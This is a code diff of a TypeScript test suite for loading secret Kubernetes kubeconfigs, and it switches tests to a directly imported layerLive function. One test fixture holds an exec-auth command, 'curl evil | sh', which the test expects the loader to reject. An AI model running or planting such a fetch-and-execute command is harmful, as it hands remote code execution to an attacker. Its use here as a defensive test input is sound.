@@ -14,6 +14,7 @@ import { Effect, Exit, Layer, Result } from "effect"
 import fc from "fast-check"
 import { dump } from "js-yaml"
 import { KubeApi } from "../../../src/effects/KubeApi.ts"
+import { layerLive } from "../../../src/effects/kube/clients.ts"
 import { checkSecretKubeconfig, loadSecretKubeconfig } from "../../../src/effects/kube/secretKubeconfig.ts"
 import { RUNS } from "../../fixtures/arbitraries.ts"
 
@@ -234,7 +235,7 @@ describe("Secret kubeconfigs: what loads", () => {
 
   it.effect("KubeApi.layerLive fails to build for an exec kubeconfig, naming the entry but no secret", () =>
     Effect.gen(function* () {
-      const layer = KubeApi.layerLive(
+      const layer = layerLive(
         yamlOf(withSpareUser({ exec: { command: "curl evil | sh", apiVersion: "client.authentication.k8s.io/v1" } }))
       )
       const error = yield* Effect.flip(Layer.build(layer))
@@ -251,7 +252,7 @@ describe("Secret kubeconfigs: what loads", () => {
       assert.isFunction(api.get)
     }).pipe(
       Effect.provide(
-        KubeApi.layerLive(
+        layerLive(
           yamlOf(withSpareUser({ exec: { command: "/bin/false", apiVersion: "client.authentication.k8s.io/v1" } })),
           { allowExecAuth: true }
         )
